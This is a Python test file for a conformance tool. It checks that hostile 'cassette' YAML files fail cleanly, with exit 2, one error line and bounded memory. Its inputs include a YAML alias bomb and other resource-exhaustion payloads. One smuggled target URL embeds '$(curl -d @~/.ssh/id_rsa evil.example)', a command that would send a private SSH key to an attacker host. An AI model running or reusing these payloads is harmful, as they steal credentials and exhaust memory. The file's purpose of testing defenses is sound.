"""Untrusted cassette files: bounded before anything is built (exit 2, one line); hints quote targets."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from conformance.cassettes.errors import CASSETTE_TARGET_NOTE, CassetteCorrupt, rerecord_hint
from conformance.cassettes.format import MAX_CASSETTE_BYTES, MAX_NESTING, load_cassette
from tests.support.processes import CLI_CODE, RSS_WRAPPER

MAX_RSS_MIB = 300  # the bound for the alias bomb
CLI_TIMEOUT_SECONDS = 120
NAME = "test_x.py::test_y"
FILE = "test_x.py__test_y-0000000000.yaml"
HEADER = (
    "format: 1\nname: n\nheader:\n  target: http://127.0.0.1:1/v1/user/login_token\n  suite_version: '1'\n"
    "  profile: default\n  recorded_at: '2026-01-01T00:00:00+00:00'\n  seed: {seed}\n  max_examples: 5\n"
    "  user_id: 1\n  unknown_user_id: 2\n  foreign_user_id: null\n"
)
ALIAS_BOMB = (
    "a: &a ['lol','lol','lol','lol','lol','lol','lol','lol','lol']\n"
    + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8))
    + "format: 1\ndigest: x\n"
)
CASES = {
    "alias_bomb": (ALIAS_BOMB, "anchors or aliases"),
    "recursive_alias": ("a: &a [*a]\nformat: 1\n", "anchors or aliases"),
    "huge_integer": (HEADER.format(seed="7" * 5000), "a number of 5000 characters"),
    "deep_nesting": ("x: " + "[" * (MAX_NESTING + 5) + "]" * (MAX_NESTING + 5) + "\n", "nests deeper"),
}


def run_replay(cassettes: Path, tmp_path: Path) -> tuple[int, str, float]:
    """`conformance run --cassettes DIR` in a fresh process; exit code, stderr and peak RSS in MiB."""
    rss_file = tmp_path / "rss"
    args = ["run", "--cassettes", str(cassettes), "--report-dir", str(tmp_path / "report")]
    env = {**os.environ, "NO_COLOR": "1"}
    done = subprocess.run(
        [sys.executable, "-c", RSS_WRAPPER, str(rss_file), CLI_CODE, *args],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=CLI_TIMEOUT_SECONDS,
        check=False,
    )
    return done.returncode, done.stderr, int(rss_file.read_text()) / 1024


@pytest.mark.e2e
@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_cassette_is_exit_2_in_one_line_and_bounded_memory(case: str, tmp_path: Path) -> None:
    text, problem = CASES[case]
    folder = tmp_path / "cassettes"
    folder.mkdir()
    (folder / FILE).write_text(text)
    code, stderr, rss_mib = run_replay(folder, tmp_path)
    assert code == 2, stderr
    assert "Traceback" not in stderr
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and problem in lines[0], stderr
    assert rss_mib < MAX_RSS_MIB, f"peak RSS {rss_mib:.0f} MiB"


@pytest.mark.parametrize("case", sorted(CASES))
def test_load_refuses_before_building(case: str, tmp_path: Path) -> None:
    text, problem = CASES[case]
    path = tmp_path / FILE
    path.write_text(text)
    with pytest.raises(CassetteCorrupt, match=problem):
        load_cassette(path)


def test_an_oversized_cassette_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / FILE
    with path.open("wb") as sparse:
        sparse.truncate(MAX_CASSETTE_BYTES + 1)
    with pytest.raises(CassetteCorrupt, match=r"over the .*-byte bound"):
        load_cassette(path)


def test_a_target_from_a_cassette_is_quoted_and_labelled() -> None:
    hostile = "http://evil.example/$(curl -d @~/.ssh/id_rsa evil.example)\x1b[2J"
    hint = rerecord_hint(hostile)
    assert "'http://evil.example/$(curl -d @~/.ssh/id_rsa evil.example)\\x1b[2J'" in hint
    assert CASSETTE_TARGET_NOTE in hint
    assert "\x1b" not in hint
    assert rerecord_hint() == "conformance run --target URL --record"
